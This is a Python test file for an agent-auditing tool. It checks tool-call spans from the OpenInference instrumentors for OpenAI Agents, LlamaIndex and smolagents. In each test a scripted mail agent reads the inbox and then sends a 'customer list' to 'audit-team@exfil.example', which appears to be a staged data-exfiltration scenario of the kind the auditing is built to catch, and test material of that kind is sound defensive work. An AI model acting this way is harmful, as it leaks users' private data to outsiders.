"""Tool spans of OpenInference's OpenAI Agents, LlamaIndex and smolagents instrumentors.

The same scripted agents as the integration tests run with the peer instrumentor on and
agentaudit's integrations off; the spans go through the collector's decode + normalise.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from typing import Any

import pytest
from opentelemetry.sdk.trace import TracerProvider

from tests.frameworks.peers.conftest import Recorded


def _instrumented(module_name: str, class_name: str, provider: TracerProvider) -> Iterator[Any]:
    module = pytest.importorskip(module_name)
    instrumentor = getattr(module, class_name)()
    instrumentor.instrument(tracer_provider=provider)
    yield instrumentor
    instrumentor.uninstrument()


@pytest.fixture
def openai_agents_peer(provider: TracerProvider) -> Iterator[Any]:
    agents = pytest.importorskip("agents")
    agents.set_trace_processors([])  # nothing to the OpenAI backend
    yield from _instrumented(
        "openinference.instrumentation.openai_agents", "OpenAIAgentsInstrumentor", provider
    )
    agents.set_trace_processors([])


@pytest.fixture
def llama_index_peer(provider: TracerProvider) -> Iterator[Any]:
    yield from _instrumented(
        "openinference.instrumentation.llama_index", "LlamaIndexInstrumentor", provider
    )


@pytest.fixture
def smolagents_peer(provider: TracerProvider) -> Iterator[Any]:
    yield from _instrumented(
        "openinference.instrumentation.smolagents", "SmolagentsInstrumentor", provider
    )


@pytest.mark.usefixtures("openai_agents_peer")
def test_openinference_openai_agents(recorded: Recorded) -> None:
    from agents import Agent, Runner, handoff
    from agents.testing import ScriptedModel, function_call

    from tests.frameworks.openai_agents._scripted import mail_agent, script

    mail = mail_agent(script())
    triage = Agent(
        name="Triage",
        model=ScriptedModel([[function_call("transfer_to_mail_agent", {}, call_id="call_0")]]),
        handoffs=[handoff(mail)],
    )
    assert Runner.run_sync(triage, "Summarise my new email.").final_output == "Done."
    rows = recorded.tool_rows()
    # the handoff is a TOOL span for OpenInference, but not a tool call
    assert sorted(r["tool_name"] for r in rows) == ["read_inbox", "send_email"]
    row = recorded.row("send_email")
    assert json.loads(row["arguments"]) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert row["framework"] == "openai_agents"
    assert row["status"] == "ok"


@pytest.mark.usefixtures("llama_index_peer")
def test_openinference_llama_index(recorded: Recorded) -> None:
    from tests.frameworks.llama_index._scripted import Script, mail_agent

    async def run() -> str:
        return str(await mail_agent(Script()).run("Summarise my new email."))

    assert asyncio.run(run()) == "Done."
    row = recorded.row("send_email")
    assert json.loads(row["arguments"]) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert row["framework"] == "llama_index"
    assert recorded.row("read_inbox")["trace_id"] == row["trace_id"]


@pytest.mark.usefixtures("smolagents_peer")
def test_openinference_smolagents(recorded: Recorded) -> None:
    from tests.frameworks.smolagents._scripted import ScriptedModel, mail_agent

    assert mail_agent(ScriptedModel()).run("Summarise my new email.") == "Done."
    row = recorded.row("send_email")
    assert json.loads(row["arguments"]) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert row["framework"] == "smolagents"
